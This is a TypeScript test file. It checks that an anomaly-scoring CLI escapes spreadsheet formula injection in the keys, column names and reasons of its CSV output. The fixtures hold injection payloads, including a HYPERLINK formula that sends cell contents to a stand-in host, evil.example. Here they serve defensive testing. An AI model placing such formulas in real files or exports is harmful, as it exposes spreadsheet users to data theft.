import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';

const ROOT = join(__dirname, '..', '..');
let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'score-injection-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('npm run score output opened in a spreadsheet', () => {
  test('keys, column names and reasons that start like a formula are neutralised; scores and flags are as they are', () => {
    // Keys as a recorded CSV might hold them: one stream each, quoted where RFC 4180 wants it.
    const keys = ['=1+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1,"click")', '101'];
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const lines = ['@equipment,timestamp,-temperature'];
    for (let i = 0; i < 20; i++)
      for (const key of keys)
        lines.push(
          `${quoted(key)},${new Date(Date.UTC(2026, 10, 23, 19, 0, i)).toISOString()},${i === 19 ? 95 : 60 + (i % 3) / 10}`,
        );
    const input = join(dir, 'history.csv');
    const out = join(dir, 'scores.csv');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const result = spawnSync(
      process.execPath,
      [
        '--import',
        'tsx',
        join('ml', 'score-cli.ts'),
        ...['--csv', input, '--features', '-temperature', '--key', '@equipment', '--timestamp', 'timestamp'],
        ...['--train-rows', '10', '--out', out],
      ],
      { cwd: ROOT, encoding: 'utf8' },
    );
    expect(result.stderr).toBe('');

    const [header, ...rows] = parse(readFileSync(out, 'utf8')) as string[][];
    expect(header).toEqual([
      "'@equipment",
      'timestamp',
      'score',
      'is_anomaly',
      'anomalous_features',
      'reasons',
    ]);
    expect(rows).toHaveLength(lines.length - 1);
    const written = new Set(rows.map(([key]) => key));
    expect(written).toEqual(new Set(["'=1+1", "'-1", "'@SUM(A1)", `'${keys[3]}`, '101']));
    for (const [, time, score, flag] of rows) {
      expect(time).toMatch(/^2026-11-23T19:00:\d\d\.000Z$/);
      expect(score).toMatch(/^[01]\.\d{4}$/);
      expect(['true', 'false']).toContain(flag);
    }
    // The feature column is named like a formula: the anomalous_features and reasons cells start with it.
    const flagged = rows.filter(([, , , flag]) => flag === 'true');
    expect(flagged.length).toBeGreaterThan(0);
    for (const [, , , , features, reasons] of flagged) {
      expect(features).toBe("'-temperature");
      expect(reasons).toMatch(/^'-temperature 95/);
    }
  });
});
